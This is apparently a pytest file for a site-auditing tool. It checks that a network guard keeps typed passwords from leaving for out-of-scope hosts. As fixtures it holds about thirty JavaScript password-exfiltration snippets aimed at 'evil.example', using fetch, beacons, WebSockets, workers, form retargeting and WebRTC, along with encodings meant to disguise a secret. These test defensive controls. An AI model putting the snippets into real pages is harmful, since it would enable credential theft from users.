"""What is typed into a browser goes nowhere but to hosts in scope, whatever the page does with it."""

import asyncio
import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from launchready_lib.evidence import Unavailable
from launchready_lib.network import Guard, browser, guard
from launchready_lib.network.guard import Wish
from launchready_lib.site import browser_forms, signin, steps
from tests import certificates
from tests.login_site import EMAIL
from tests.web_servers import DOMAIN, Reply, client, network, serving

pytestmark = pytest.mark.anyio

CANARY = "Kanarien+Vogel/77=ä"
EVIL = "evil.example"


@pytest.fixture(scope="module")
def anyio_backend():
    return "asyncio"


# --- what a request carries -------------------------------------------------------------------------------------------

SPELLINGS = {
    "as it is": str,
    "percent-encoded": lambda s: quote(s, safe=""),
    "twice": lambda s: quote(quote(s, safe=""), safe=""),
    "every byte": lambda s: "".join(f"%{byte:02x}" for byte in s.encode()),
    "as a form": lambda s: quote(s, safe="").replace("%20", "+"),
    "escaped": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
    "entities": lambda s: "".join(f"&#{ord(c)};" for c in s),
    "upper case": str.upper,
    "hexadecimal": lambda s: s.encode().hex(),
    **{
        f"base64 after {n}": lambda s, n=n: base64.b64encode(b"x" * n + s.encode() + b"tail").decode() for n in range(3)
    },
    "base64 for addresses": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
}


def armed(*secrets):
    judge = network().guard
    judge.arm(*secrets)
    return judge


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_secret_is_known_in_every_usual_spelling(spelling):
    url = f"https://{EVIL}/pixel?d={SPELLINGS[spelling](CANARY)}"
    judge = armed(CANARY)
    assert judge.why_not(Wish("GET", url, "Image")) == guard.CARRIED
    assert judge.why_not(Wish("GET", url.replace(EVIL, DOMAIN), "Image")) == ""
    assert network().guard.why_not(Wish("GET", url, "Image")) == ""


@given(st.text(st.characters(max_codepoint=0xFFFF, categories=["L", "N", "P", "S"]), min_size=8, max_size=30))
def test_any_secret_is_found_in_any_of_the_spellings(secret):
    judge = armed(secret)
    for name, spelt in SPELLINGS.items():
        if name != "upper case":  # which has no way back for some letters
            assert judge.carries(f"https://{EVIL}/?a={spelt(secret)}&b=1"), name


def test_a_short_code_counts_as_a_whole_word_alone():
    judge = armed("4711", "123")
    assert judge.carries("https://x.example/?code=4711")
    assert not judge.carries("https://x.example/?t=1647112")
    assert not judge.carries("https://x.example/?t=123")


KINDS = {
    "a picture": (Wish("GET", f"https://{EVIL}/p", "Image"), ""),
    "a frame": (Wish("GET", f"https://{EVIL}/p", "Document"), ""),
    "a page": (Wish("GET", f"https://{EVIL}/p", "Document", leads=True), guard.LED),
    "a form": (Wish("POST", f"https://{EVIL}/p", "Document"), guard.SENT),
    "a beacon": (Wish("POST", f"https://{EVIL}/p", "Ping"), guard.SENT),
    "a report": (Wish("GET", f"https://{EVIL}/p", "CSPViolationReport"), guard.SENT),
    "a body": (Wish("PUT", f"https://{EVIL}/p", "Fetch"), guard.SENT),
    "own": (Wish("POST", f"https://api.{DOMAIN}/p", "Fetch", leads=True), ""),
    "own, written otherwise": (Wish("POST", f"https://API.{DOMAIN.upper()}./p", "Fetch"), ""),
    "nothing that leaves": (Wish("POST", "blob:https://x.example/1", "Fetch"), ""),
}


@pytest.mark.parametrize("kind", KINDS)
def test_permission_is_per_request_and_kind(kind):
    wish, reason = KINDS[kind]
    assert network().guard.why_not(wish) == reason


def test_a_host_to_pay_at_gets_everything_but_what_was_typed_and_only_meanwhile():
    judge, form = armed(CANARY), Wish("POST", "https://pay.example/session", "Document", leads=True)
    with judge.paying("PAY.example."):
        assert judge.why_not(form) == ""
        assert judge.why_not(Wish("POST", form.url, "Fetch", said=f'{{"p": "{CANARY}"}}')) == guard.CARRIED
    assert judge.why_not(form) == guard.LED


# --- in a browser -----------------------------------------------------------------------------------------------------

needs_chromium = pytest.mark.skipif(browser.find_chromium() is None, reason="there is no Chromium")
PIXEL = f"<img src='https://{EVIL}/pixel.png' onload='shown()' onerror='shown()'>"
GO = "<button>Go</button>"
FIELDS = "<input type=email id=e name=email><input type=password id=p name=password>"


def scripted(does, body=""):
    """A page that has shown a picture of the other host, and does this with the password on Enter."""
    return f"""<title>Sign in</title>{PIXEL}<div id=box></div>{body}<script>
    const evil = 'https://{EVIL}';
    function shown() {{ box.innerHTML = `{FIELDS}`; p.onkeydown = event => event.key === 'Enter' && go(p.value) }}
    async function go(pw) {{ try {{ {does} }} finally {{ box.innerHTML += '<p class=error>No' }} }}</script>"""


def formed(form, more=""):
    """A page that has shown a picture of the other host, and has a form made by script."""
    return f"""<title>Sign in</title>{PIXEL}<div id=box></div><script>const evil = 'https://{EVIL}';
    function shown() {{ box.innerHTML = `{form}`; {more} }}</script>"""


_FORM = "const f = document.createElement('form'); f.method = 'post'; f.innerHTML = '<input name=x>'; f.x.value = pw;"
_BLOB = "URL.createObjectURL(new Blob([`fetch('${evil}/', {method: 'POST', body: '${pw}', mode: 'no-cors'})`]))"
HOSTILE = {
    "a form made by script": formed(f"<form method=post action='https://{EVIL}/'>{FIELDS}{GO}</form>"),
    "a target set at the end": formed(
        f"<form id=f method=post action=/login>{FIELDS}{GO}</form>", "f.onsubmit = () => { f.action = evil }"
    ),
    "a button's own target": formed(
        f"<form method=post action=/login>{FIELDS}<button formaction='https://{EVIL}/'>Go</button></form>"
    ),
    "a field called action": formed(
        f"<form id=f method=post action='https://{EVIL}/'><input name=action value=/login>{FIELDS}{GO}</form>"
    ),
    "a form submitted by script": scripted(f"{_FORM} f.action = evil; document.body.append(f); f.submit()"),
    "a form by another window's hand": scripted(
        f"{_FORM} f.action = evil; const i = document.createElement('iframe'); document.body.append(f, i);"
        "i.contentWindow.HTMLFormElement.prototype.submit.call(f)"
    ),
    "a form in a frame": scripted(
        "const i = document.createElement('iframe'); i.srcdoc = `<form method=post action='${evil}/'>"
        "<input name=x value='${pw}'></form><script>document.forms[0].submit()<\\/script>`; document.body.append(i)"
    ),
    "a form that asks": scripted(f"{_FORM} f.method = 'get'; f.action = evil; document.body.append(f); f.submit()"),
    "fetch": scripted("fetch(evil, {method: 'POST', body: pw, mode: 'no-cors'})"),
    "fetch, with what it sends scrambled": scripted("fetch(evil, {method: 'POST', body: [...pw].reverse().join('')})"),
    "fetch to the end": scripted("fetch(evil, {method: 'POST', body: pw, mode: 'no-cors', keepalive: true})"),
    "fetch, later": scripted("fetchLater(evil, {method: 'POST', body: pw, activateAfter: 0})"),
    "a header": scripted("fetch(evil, {headers: {'x-it': encodeURIComponent(pw)}})"),
    "XMLHttpRequest": scripted("const x = new XMLHttpRequest(); x.open('PUT', evil); x.send(pw)"),
    "a beacon": scripted("navigator.sendBeacon(evil, pw)"),
    "a ping": scripted("const a = document.createElement('a'); a.href = '#'; a.ping = evil; a.click()"),
    "a WebSocket": scripted(f"new WebSocket('wss://{EVIL}/' + encodeURIComponent(pw))"),
    "a WebSocket of a worker": scripted(
        f"new Worker(URL.createObjectURL(new Blob([`new WebSocket('wss://{EVIL}/${{encodeURIComponent(pw)}}')`])))"
    ),
    "a worker": scripted(f"new Worker({_BLOB})"),
    "a shared worker": scripted(f"new SharedWorker({_BLOB})"),
    "a picture": scripted("new Image().src = evil + '/?' + encodeURIComponent(pw)"),
    "a picture in base64": scripted("new Image().src = evil + '/?' + btoa(unescape(encodeURIComponent('x' + pw)))"),
    "a style": scripted("document.body.style.background = `url(${evil}/?${encodeURIComponent(pw)})`"),
    "an address": scripted("location = evil + '/?x'"),
    "an address of the site that leads on": scripted("location = '/away'"),
    "a body that is led on": scripted("fetch('/hop', {method: 'POST', body: pw, mode: 'no-cors'})"),
    "a form that is led on": scripted(f"{_FORM} f.action = '/hop'; document.body.append(f); f.submit()"),
    "a popup": scripted("window.open(evil + '/?x')"),
    "a popup that nobody opened": scripted(
        "const a = document.createElement('a'); a.href = evil; a.target = '_blank'; a.rel = 'noopener'; a.click()"
    ),
    "a form in a popup": scripted(
        f"{_FORM} f.action = evil; f.target = '_blank'; document.body.append(f);"
        "f.dispatchEvent(new SubmitEvent('submit')); f.requestSubmit()"
    ),
    "a refresh": scripted("document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${evil}/?x'>`"),
    "a service worker": scripted(
        "await ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/worker.js?' + encodeURI(pw));"
    ),
    "a payment": scripted(
        "const i = document.createElement('iframe'); document.body.append(i);"
        "await new i.contentWindow.PaymentRequest([{supportedMethods: evil + '/?' + encodeURIComponent(pw)}],"
        "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()"
    ),
    "a call": scripted(
        f"const c = new RTCPeerConnection({{iceServers: [{{urls: 'turns:{EVIL}:443?transport=tcp', username: pw,"
        "credential: pw}]}); c.createDataChannel('x'); await c.setLocalDescription();"
        "await new Promise(done => setTimeout(done, 500))"
    ),
}  # fmt: skip
UNSEEN = {"a form made by script", "a field called action", "a payment", "a ping", "a service worker"}
"""Here nothing was stopped on its way: the password was not typed, or the browser did not even try."""


class Site:
    """The audited site, the hostile one and a backend, by the name that was asked."""

    def __init__(self):
        self.page, self.asked = "", []

    def __call__(self, asked):
        self.asked.append(asked)
        if asked.host.endswith(f".{DOMAIN}") or asked.host.startswith("auth."):
            return Reply("{}", headers=(("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*")))
        if asked.host != DOMAIN:
            return Reply("<title>Elsewhere</title>")
        if asked.path == "/worker.js":
            return Reply(f"fetch('https://{EVIL}', {{method: 'POST', body: location.search}})", kind="text/javascript")
        if asked.path in ("/hop", "/away"):
            status = 307 if asked.path == "/hop" else 302
            return Reply(status=status, headers=(("Location", f"https://{EVIL}/on"),))
        return Reply(self.page if asked.path == "/login" and asked.method == "GET" else "<h1>Hello</h1>")

    def elsewhere(self):
        """What was asked of hosts out of scope, but for the picture."""
        return [each for each in self.asked if each.host not in (DOMAIN, f"api.{DOMAIN}") and each.path != "/pixel.png"]


@pytest.fixture(scope="module")
async def hostile(tmp_path_factory):
    folder, site = tmp_path_factory.mktemp("ca"), Site()
    names = [DOMAIN, f"api.{DOMAIN}", EVIL, "auth.backend.example", "pay.example"]
    authority = certificates.issue("Test CA", ca=True)
    (folder / "ca.pem").write_bytes(authority.pem)
    context = certificates.context(folder, certificates.issue(DOMAIN, authority, names=names), authority)
    async with serving(site, context=context) as served:
        by = {f"{name}:443": f"127.0.0.1:{served.port}" for name in names}
        yield site, {"ca_file": str(folder / "ca.pem"), "connect_to": by}


@pytest.fixture(scope="module")
async def opened(hostile):
    site, settings = hostile
    async with client(network=settings) as acme, acme.network.browser() as chromium:
        assert not isinstance(chromium, Unavailable), chromium
        yield site, acme, chromium


async def typed_into(opened, page, monkeypatch, *, quick=False):
    """Type the canary into this login page, and wait until something came of it."""
    site, acme, chromium = opened
    monkeypatch.setattr(steps, "STEP_S", 2.0)
    site.page = page
    site.asked.clear()
    acme.network.traffic.refused.clear()
    async with chromium.context() as context:
        page = await context.new_page()
        typed = await browser_forms._type(acme, page, f"https://{DOMAIN}/login", EMAIL, CANARY)
        for _ in range(40 if quick else 150):
            if site.elsewhere() or any(refusal.host == EVIL for refusal in acme.network.traffic.refused):
                break
            await asyncio.sleep(0.02)
    if isinstance(typed, browser_forms.Typed):
        await typed.session.close()
    return typed


def told(text, secret=CANARY):
    judge = armed(secret)
    return judge.carries(text) or secret[::-1] in text


@needs_chromium
@pytest.mark.browser
@pytest.mark.parametrize("case", HOSTILE)
async def test_the_password_goes_to_no_host_out_of_scope(opened, monkeypatch, case):
    site, acme, _ = opened
    await typed_into(opened, HOSTILE[case], monkeypatch, quick=case in UNSEEN)
    assert any(asked.host == EVIL and asked.path == "/pixel.png" for asked in site.asked), "the picture opened the door"
    assert site.elsewhere() == []
    refused = {refusal.reason for refusal in acme.network.traffic.refused if refusal.host == EVIL}
    assert refused or case in UNSEEN
    assert guard.LEFT not in refused


@needs_chromium
@pytest.mark.browser
@pytest.mark.parametrize(
    "case", ["fetch", "a form submitted by script", "a popup", "a picture", "a form made by script"]
)
async def test_without_the_guard_it_would_have_gone(opened, monkeypatch, case):
    monkeypatch.setattr(Guard, "why_not", lambda *_: "")
    monkeypatch.setattr(Guard, "inside", lambda *_: True)
    monkeypatch.setattr(Guard, "allowed", [f"*.{EVIL}", EVIL])
    site, _, _ = opened
    await typed_into(opened, HOSTILE[case], monkeypatch)
    assert site.elsewhere() != []


# --- what is said of it -----------------------------------------------------------------------------------------------

BACKEND = "auth.backend.example"
LOGINS = {
    "as JSON": "fetch('https://{host}/token', {{method: 'POST', body: JSON.stringify({{password: pw}})}})",
    "scrambled": "fetch('https://{host}/srp', {{method: 'POST', body: [...pw].reverse().join('')}})",
    "by a page of its own": "location = 'https://{host}/authorize'",
}


@needs_chromium
@pytest.mark.browser
@pytest.mark.parametrize("way", LOGINS)
async def test_a_login_that_another_host_takes_is_unknown_and_names_it(hostile, monkeypatch, way):
    monkeypatch.setattr(steps, "STEP_S", 2.0)
    site, settings = hostile
    site.page = scripted(LOGINS[way].format(host=BACKEND))
    async with client(network=settings, site={"pages": {"login": "/login"}}) as acme:
        tried = await signin.attempt(acme, EMAIL, CANARY)
        if tried.session is not None:
            await tried.session.close()
    assert (tried.outcome, tried.missing.needs) == ("unclear", f"authorization.hosts: [{BACKEND}]")
    assert not told(tried.missing.reason + tried.error)


@needs_chromium
@pytest.mark.browser
@pytest.mark.parametrize("host", [DOMAIN, f"api.{DOMAIN}", BACKEND], ids=["the site", "a subdomain", "a backend"])
async def test_a_login_that_a_host_in_scope_takes_is_sent_there(hostile, monkeypatch, host):
    monkeypatch.setattr(steps, "STEP_S", 2.0)
    site, settings = hostile
    site.page = scripted(
        f"await fetch('https://{host}/token', {{method: 'POST', headers: {{apikey: 'x'}}, body: pw}}); p.remove()"
    )
    site.asked.clear()
    allowed = {
        "granted_by": "x",
        "granted_on": "2026-01-01",
        "hosts": [DOMAIN, f"*.{DOMAIN}", BACKEND],
        "allow": ["login"],
    }
    async with client(network=settings, authorization=allowed) as acme:
        typed = await browser_forms.type_in(acme, f"https://{DOMAIN}/login", EMAIL, CANARY)
        await typed.session.close()
    assert typed.error is None
    assert [asked.body.decode() for asked in site.asked if asked.path == "/token" and asked.method == "POST"] == [
        CANARY
    ]


@needs_chromium
@pytest.mark.browser
async def test_a_form_of_another_host_is_not_typed_into(opened, monkeypatch):
    heard = "document.addEventListener('input', event => fetch('/typed', {method: 'POST', body: event.target.type}));"
    typed = await typed_into(
        opened,
        formed(f"<form method=post action='https://{EVIL}/'>{FIELDS}{GO}</form>", heard),
        monkeypatch,
    )
    assert typed.kept.needs == f"authorization.hosts: [{EVIL}]"
    assert "was not typed" in typed.error
    assert not [asked for asked in opened[0].asked if asked.path == "/typed"]


@needs_chromium
@pytest.mark.browser
async def test_forms_are_stopped_in_the_page_itself_where_the_interception_is_gone(opened, monkeypatch):
    monkeypatch.setattr(guard.Guard, "why_not", lambda *_: "")
    for case in ("a button's own target", "a form submitted by script", "a form by another window's hand"):
        await typed_into(opened, HOSTILE[case], monkeypatch)
        assert opened[0].elsewhere() == [], case
        assert EVIL in {refusal.host for refusal in opened[1].network.traffic.refused}


@needs_chromium
@pytest.mark.browser
async def test_what_left_all_the_same_is_said_and_the_page_is_closed(opened, monkeypatch):
    monkeypatch.setattr(guard.Guard, "why_not", lambda *_: "")
    site, acme, chromium = opened
    acme.network.traffic.refused.clear()
    site.page = "<title>Home</title>"
    async with chromium.context() as context:
        page = await context.new_page()
        await page.goto(f"https://{DOMAIN}/login")
        async with page.expect_event("close"):
            await page.evaluate(f"() => {{ fetch('https://{EVIL}/', {{method: 'POST', mode: 'no-cors'}}) }}")
    assert {refusal.reason for refusal in acme.network.traffic.refused if refusal.host == EVIL} == {guard.LEFT}


@needs_chromium
@pytest.mark.browser
async def test_what_other_hosts_serve_is_loaded_and_counted_by_kind(opened):
    site, acme, chromium = opened
    acme.network.traffic.loaded.clear()
    site.page = f"<img src=https://{EVIL}/pixel.png><script src=https://{EVIL}/s.js></script><iframe src=https://{EVIL}/f></iframe>"
    async with chromium.context() as context:
        page = await context.new_page()
        await page.goto(f"https://{DOMAIN}/login")
    assert dict(acme.network.traffic.loaded) == {(EVIL, "Image"): 1, (EVIL, "Script"): 1, (EVIL, "Document"): 1}
